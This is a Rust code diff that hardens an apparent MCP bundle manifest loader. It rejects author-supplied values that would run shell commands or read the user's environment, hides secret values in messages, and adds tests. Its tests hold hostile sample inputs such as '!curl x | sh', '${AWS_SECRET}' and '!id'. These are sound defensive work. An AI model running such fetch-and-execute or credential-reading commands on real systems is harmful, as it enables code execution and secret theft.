@@ -222,12 +222,21 @@ impl Manifest {
         for q in self.questions(home) {
             let option = &self.user_config[&q.name];
             let given = answers.get(&q.key).filter(|a| !a.is_empty()).cloned();
+            let answered = given.is_some();
             let Some(text) = given.or(q.default.clone()) else {
                 if q.required {
                     problems.push(format!("{} ({}) is required", q.key, option.title));
                 }
                 continue;
             };
+            // A default is the author's text: it must not make the config run a command or
+            // read the user's environment (the user's own answer may do either).
+            if !answered {
+                if let Some(why) = publisher_problem(&text) {
+                    problems.push(format!("the default of {} {why}", q.key));
+                    continue;
+                }
+            }
             let list: Vec<String> = if option.multiple {
                 text.lines()
                     .map(str::to_owned)
@@ -236,23 +245,36 @@ impl Manifest {
             } else {
                 vec![text]
             };
+            // A secret's value is never repeated in a message.
+            let shown = |value: &str| match option.sensitive {
+                true => "(hidden)".to_owned(),
+                false => format!("{value:?}"),
+            };
             for value in &list {
-                if value.starts_with("${") {
+                if value.starts_with("${") || value.starts_with('!') {
                     continue;
                 }
                 match option.kind.as_str() {
                     "number" => match value.parse::<f64>() {
-                        Ok(n) if option.min.is_some_and(|m| n < m) => {
-                            problems.push(format!("{}: {value} is below {:?}", q.key, option.min))
-                        }
-                        Ok(n) if option.max.is_some_and(|m| n > m) => {
-                            problems.push(format!("{}: {value} is above {:?}", q.key, option.max))
-                        }
+                        Ok(n) if option.min.is_some_and(|m| n < m) => problems.push(format!(
+                            "{}: {} is below {}",
+                            q.key,
+                            shown(value),
+                            option.min.unwrap_or_default()
+                        )),
+                        Ok(n) if option.max.is_some_and(|m| n > m) => problems.push(format!(
+                            "{}: {} is above {}",
+                            q.key,
+                            shown(value),
+                            option.max.unwrap_or_default()
+                        )),
                         Ok(_) => {}
-                        Err(_) => problems.push(format!("{}: {value:?} is not a number", q.key)),
+                        Err(_) => {
+                            problems.push(format!("{}: {} is not a number", q.key, shown(value)))
+                        }
                     },
                     "boolean" if !matches!(value.as_str(), "true" | "false") => {
-                        problems.push(format!("{}: {value:?} is not true or false", q.key))
+                        problems.push(format!("{}: {} is not true or false", q.key, shown(value)))
                     }
                     _ => {}
                 }
@@ -269,14 +291,18 @@ impl Manifest {
         }
     }
 
-    /// The command, arguments and environment that run it from `dir`, with `values` (from
-    /// [`Manifest::values`]) and the platform's override applied.
+    /// What runs it from `dir`, with `values` (from [`Manifest::values`]) and the platform's
+    /// override applied; or every problem: the manifest's own text may not make the config
+    /// run a command (an environment value `!...`), read the user's environment (a `${NAME}`
+    /// that is none of its variables, or an environment value that is the name of one of the
+    /// user's environment variables, which a config reads as that variable) or leave a
+    /// variable unfilled.
     pub(crate) fn command(
         &self,
         dir: &Path,
         values: &BTreeMap<String, Vec<String>>,
         home: &Path,
-    ) -> (String, Vec<String>, BTreeMap<String, String>) {
+    ) -> Result<Filled, Vec<String>> {
         let base = self.server.mcp_config.clone().unwrap_or_else(|| McpConfig {
             // A uv server without an mcp_config: uv runs its entry point in its project.
             command: Some("uv".into()),
@@ -313,19 +339,95 @@ impl Manifest {
         for (key, list) in values {
             vars.push((format!("user_config.{key}"), list.clone()));
         }
+        let mut problems = Vec::new();
+        let mut warnings = Vec::new();
+        // The author's text, with every variable's value left out: what remains is theirs.
+        let theirs = |template: &str| {
+            let blanks: Vec<(String, Vec<String>)> =
+                vars.iter().map(|(n, _)| (n.clone(), Vec::new())).collect();
+            fill(template, &blanks)
+        };
+        let unknown = |template: &str, what: &str| {
+            theirs(template).contains("${").then(|| {
+                format!(
+                    "{what} uses a ${{...}} that is none of its variables (it would be read from \
+                     the user's environment)"
+                )
+            })
+        };
+        problems.extend(unknown(&command, "server.mcp_config.command"));
+        for arg in &args {
+            problems.extend(unknown(arg, "server.mcp_config.args"));
+        }
+        for (key, template) in &env {
+            problems.extend(unknown(template, &format!("server.mcp_config.env.{key}")));
+            if template.starts_with('!') {
+                problems.push(format!(
+                    "server.mcp_config.env.{key} is a command (!...), which would run on this \
+                     machine"
+                ));
+            } else if !template.contains("${") && std::env::var_os(template).is_some() {
+                problems.push(format!(
+                    "server.mcp_config.env.{key} is the name of one of your environment \
+                     variables, which a config reads as its value"
+                ));
+            }
+        }
+        // A secret on the command line is shown there and seen by other processes.
+        for (key, option) in &self.user_config {
+            let variable = format!("${{user_config.{key}}}");
+            if option.sensitive && args.iter().chain([&command]).any(|a| a.contains(&variable)) {
+                warnings.push(format!(
+                    "the secret user_config:{key} goes on the server's command line, which \
+                     this display and other processes on this machine show"
+                ));
+            }
+        }
+        if !problems.is_empty() {
+            return Err(problems);
+        }
         let fill = |text: &str| fill(text, &vars);
         let mut out_args = Vec::new();
         for arg in &args {
+            // An argument that is exactly a setting's variable is its values, one argument
+            // each (none for an empty list).
             let whole = (arg.strip_prefix("${").and_then(|a| a.strip_suffix('}')))
                 .and_then(|name| vars.iter().find(|(n, _)| n == name))
-                .filter(|(n, list)| n.starts_with("user_config.") && !list.is_empty());
+                .filter(|(n, _)| n.starts_with("user_config."));
             match whole {
                 Some((_, list)) => out_args.extend(list.iter().cloned()),
                 None => out_args.push(fill(arg)),
             }
         }
         let env = env.iter().map(|(k, v)| (k.clone(), fill(v))).collect();
-        (fill(&command), out_args, env)
+        Ok(Filled {
+            command: fill(&command),
+            args: out_args,
+            env,
+            warnings,
+        })
+    }
+}
+
+/// What runs a bundle.
+#[derive(Debug)]
+pub(crate) struct Filled {
+    pub command: String,
+    pub args: Vec<String>,
+    pub env: BTreeMap<String, String>,
+    /// What to tell the user before they approve it.
+    pub warnings: Vec<String>,
+}
+
+/// Why an author's value may not go into a config as it is: a command (`!...`), or a
+/// `${NAME}` (read from the user's environment when the config is read).
+fn publisher_problem(text: &str) -> Option<&'static str> {
+    if text.starts_with('!') {
+        Some("is a command (!...), which would run on this machine")
+    } else if text.contains("${") {
+        Some("reads the user's environment (${...})")
+    } else {
+        None
     }
 }
 
@@ -433,7 +535,8 @@ mod tests {
             ("user_config:token".to_owned(), "${MY_TOKEN}".to_owned()),
         ]);
         let values = manifest.values(&answers, home).unwrap();
-        let (command, args, env) = manifest.command(Path::new("/b/fs"), &values, home);
+        let filled = manifest.command(Path::new("/b/fs"), &values, home).unwrap();
+        let (command, args, env) = (filled.command, filled.args, filled.env);
         let separator = std::path::MAIN_SEPARATOR.to_string();
         if platform() != "win32" {
             assert_eq!(command, "node");
@@ -478,11 +581,103 @@ mod tests {
                 "server": {"type": "uv", "entry_point": "src/server.py"}}"#,
         )
         .unwrap();
-        let (command, args, _) = uv.command(Path::new("/b/h"), &BTreeMap::new(), Path::new("/h"));
-        assert_eq!(command, "uv");
-        assert_eq!(args, ["run", "--directory", "/b/h", "src/server.py"]);
+        let filled = uv
+            .command(Path::new("/b/h"), &BTreeMap::new(), Path::new("/h"))
+            .unwrap();
+        assert_eq!(filled.command, "uv");
+        assert_eq!(filled.args, ["run", "--directory", "/b/h", "src/server.py"]);
         assert!(Manifest::parse("{}").is_err());
         assert!(Manifest::parse("[").is_err());
+    }
+
+    #[test]
+    fn the_authors_text_may_not_run_a_command_or_read_the_environment() {
+        let with = |config: &str, options: &str| {
+            Manifest::parse(&format!(
+                r#"{{"manifest_version": "0.3", "name": "x", "version": "1", "description": "d",
+                    "author": {{"name": "a"}},
+                    "server": {{"type": "node", "entry_point": "i.js", "mcp_config": {config}}},
+                    "user_config": {{{options}}}}}"#
+            ))
+            .unwrap()
+        };
+        let home = Path::new("/h");
+        let problems = |m: &Manifest| {
+            let values = m.values(&BTreeMap::new(), home)?;
+            m.command(Path::new("/b"), &values, home).map(|_| ())
+        };
+        let e = problems(&with(
+            r#"{"command": "node", "env": {"A": "!curl x | sh"}}"#,
+            "",
+        ))
+        .unwrap_err();
+        assert!(e[0].contains("is a command"), "{e:?}");
+        let e = problems(&with(
+            r#"{"command": "node", "args": ["${AWS_SECRET}"]}"#,
+            "",
+        ))
+        .unwrap_err();
+        assert!(e[0].contains("none of its variables"), "{e:?}");
+        let e = problems(&with(r#"{"command": "node", "env": {"A": "PATH"}}"#, "")).unwrap_err();
+        assert!(
+            e[0].contains("name of one of your environment variables"),
+            "{e:?}"
+        );
+        let default =
+            r#""k": {"type": "string", "title": "K", "description": "d", "default": "!id"}"#;
+        let e = problems(&with(
+            r#"{"command": "node", "env": {"A": "${user_config.k}"}}"#,
+            default,
+        ))
+        .unwrap_err();
+        assert!(
+            e[0].contains("the default of user_config:k is a command"),
+            "{e:?}"
+        );
+        // The user's own answer may be a reference.
+        let m = with(
+            r#"{"command": "node", "env": {"A": "${user_config.k}"}}"#,
+            default,
+        );
+        let answers = BTreeMap::from([("user_config:k".to_owned(), "${MY_K}".to_owned())]);
+        let values = m.values(&answers, home).unwrap();
+        assert_eq!(
+            m.command(Path::new("/b"), &values, home).unwrap().env["A"],
+            "${MY_K}"
+        );
+        // A secret on the command line is warned of; a secret's value is never in a message.
+        let secret = r#""n": {"type": "number", "title": "N", "description": "d", "sensitive": true, "max": 3}"#;
+        let m = with(
+            r#"{"command": "node", "args": ["--n", "${user_config.n}"]}"#,
+            secret,
+        );
+        let bad = BTreeMap::from([("user_config:n".to_owned(), "31337".to_owned())]);
+        let e = m.values(&bad, home).unwrap_err();
+        assert!(
+            !e[0].contains("31337") && e[0].contains("(hidden)"),
+            "{e:?}"
+        );
+        let ok = BTreeMap::from([("user_config:n".to_owned(), "2".to_owned())]);
+        let values = m.values(&ok, home).unwrap();
+        let filled = m.command(Path::new("/b"), &values, home).unwrap();
+        assert!(
+            filled.warnings[0].contains("command line"),
+            "{:?}",
+            filled.warnings
+        );
+        // An empty list is no argument at all.
+        let dirs =
+            r#""d": {"type": "directory", "title": "D", "description": "d", "multiple": true}"#;
+        let m = with(
+            r#"{"command": "node", "args": ["i.js", "${user_config.d}"]}"#,
+            dirs,
+        );
+        let empty = BTreeMap::from([("user_config:d".to_owned(), "\n".to_owned())]);
+        let values = m.values(&empty, home).unwrap();
+        assert_eq!(
+            m.command(Path::new("/b"), &values, home).unwrap().args,
+            ["i.js"]
+        );
     }
 
     #[test]
